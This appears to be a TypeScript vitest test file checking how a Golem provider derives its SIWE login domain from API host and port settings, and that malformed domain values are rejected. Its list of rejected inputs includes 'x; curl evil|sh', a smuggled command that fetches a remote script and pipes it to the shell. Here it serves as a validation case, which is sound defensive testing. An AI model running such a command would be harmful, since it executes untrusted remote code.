import { golemRejection } from "@vm-on-golem/sdk/errors";
import { expect, test } from "vitest";
import { loadProviderConfig } from "../config/load-provider-config.ts";
import { siweDomainOf } from "./start-node-api.ts";

const configWith = async (api: Record<string, unknown>) =>
  (await loadProviderConfig({ homeDir: "/home/nobody", flags: { api } })).config;

test("the SIWE domain is the advertised API URL's host:port unless api.siweDomain is set", async () => {
  expect(siweDomainOf(await configWith({ host: "127.0.0.1", port: 7000 }))).toBe("127.0.0.1:7000");
  expect(siweDomainOf(await configWith({ publicHost: "P.example", port: 7466 }))).toBe(
    "p.example:7466",
  );
  expect(siweDomainOf(await configWith({ publicHost: "2001:db8::1", port: 7466 }))).toBe(
    "[2001:db8::1]:7466",
  );
  expect(
    siweDomainOf(await configWith({ publicHost: "p.example", siweDomain: "Golem.example" })),
  ).toBe("golem.example");
});

test("api.siweDomain must be a bare host[:port]", async () => {
  for (const bad of ["p.example/path", "x; curl evil|sh", "user@p.example", "p.example:99999"]) {
    const error = await golemRejection(configWith({ siweDomain: bad }));
    expect(error.code, bad).toBe("CONFIG_INVALID");
    expect(error.message, bad).toMatch(/api.siweDomain/);
  }
});
